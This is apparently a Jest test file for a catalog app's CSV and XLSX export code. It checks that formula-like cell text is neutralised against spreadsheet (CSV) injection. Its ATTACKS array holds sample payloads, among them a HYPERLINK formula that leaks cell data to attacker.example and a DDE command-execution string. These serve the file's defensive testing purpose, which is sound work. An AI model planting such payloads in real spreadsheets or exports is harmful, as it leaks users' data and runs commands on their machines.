import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { writeCatalogXlsx } from '../../piece-rates/catalog-spreadsheet.js';
import { csvCell, looksLikeFormula, writeCsv } from './spreadsheet-cells.js';

const ATTACKS = [
  '=HYPERLINK("http://attacker.example/?leak="&A2,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV cells (OWASP CSV injection)', () => {
  it.each(ATTACKS)('prefixes and quotes text that a spreadsheet would run: %j', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.endsWith('"')).toBe(true);
  });

  it('keeps numbers as numbers, a negative cut included, and plain text as it was', () => {
    expect(['-0.0500', '1.2500', '-5.00', '001', '套口', 'V-SJ'].map(csvCell)).toEqual([
      '-0.0500',
      '1.2500',
      '-5.00',
      '001',
      '套口',
      'V-SJ',
    ]);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });

  it('writes a CSV that reads back to the neutralised text and the untouched numbers', async () => {
    const csv = writeCsv([
      ['name', 'cut'],
      [ATTACKS[0], '-0.0500'],
    ]);
    const wb = new ExcelJS.Workbook();
    await wb.csv.read(Readable.from([csv.toString('utf8').replace(/^\ufeff/, '')]), {
      map: (v: string) => v,
    });
    expect(wb.worksheets[0].getRow(2).values).toEqual([undefined, `'${ATTACKS[0]}`, '-0.0500']);
  });
});

describe('XLSX exports', () => {
  // exceljs writes a string as a shared string (t="s"), never as a formula (<f>): Excel shows it.
  it('store formula-like names as text, not as formulas', async () => {
    const file = await writeCatalogXlsx({
      productTypes: [],
      sections: [{ code: 'S1', nameZh: ATTACKS[0] }],
      processes: [
        { code: 'P1', sectionCode: 'S1', nameZh: ATTACKS[1], nameEn: null, unit: 'piece' },
      ],
      mappings: [],
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const row = wb.getWorksheet('工序')!.getRow(2);
    expect([row.getCell(2).type, row.getCell(4).type]).toEqual([
      ExcelJS.ValueType.String,
      ExcelJS.ValueType.String,
    ]);
    expect(row.getCell(4).value).toBe(ATTACKS[1]);
  });
});
